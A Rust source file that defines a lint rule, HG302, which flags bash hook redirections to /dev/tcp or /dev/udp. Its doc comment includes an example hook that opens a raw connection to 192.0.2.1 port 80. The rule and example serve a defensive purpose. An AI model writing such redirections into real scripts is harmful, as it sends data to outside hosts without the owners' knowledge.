//! # HG302: a connection through /dev/tcp or /dev/udp
//!
//! ## What it finds
//! Redirections from or to `/dev/tcp/…` and `/dev/udp/…`, which bash turns into connections.
//!
//! ## Why it is bad
//! It is a network client without a program: data can be sent anywhere.
//!
//! ## Example
//! ```bash
//! pre_upgrade() {
//!     echo "hello" > /dev/tcp/192.0.2.1/80
//! }
//! post_upgrade() { :; }
//! ```
//!
//! ## Use instead
//! ```bash
//! pre_upgrade() {
//!     echo "hello" > /tmp/hello
//! }
//! post_upgrade() { :; }
//! ```
//!
//! ## Exceptions
//! None.

use crate::context::Context;
use crate::facts::{known_text, target};
use crate::finding::Findings;
use crate::{Profile, RuleId, RuleInfo};

pub(super) const RULE: RuleInfo = RuleInfo {
    id: RuleId(302),
    name: "network-device",
    profiles: &[Profile::Restricted, Profile::Baseline],
    fragments: true,
    check,
    source: include_str!("hg302_network_device.rs"),
};

fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
    for (redirection, _) in &context.facts.redirections {
        let Some(target) = target(redirection) else { continue };
        let text = known_text(target);
        if ["/dev/tcp", "/dev/udp"].iter().any(|device| text.contains(device)) {
            let message =
                "hooks must not call external services: bash opens a connection for this redirection";
            let help = "a hook talks to the FE only, through mysql";
            findings.error(RULE.id, redirection.span, message.to_owned(), help);
        }
    }
}
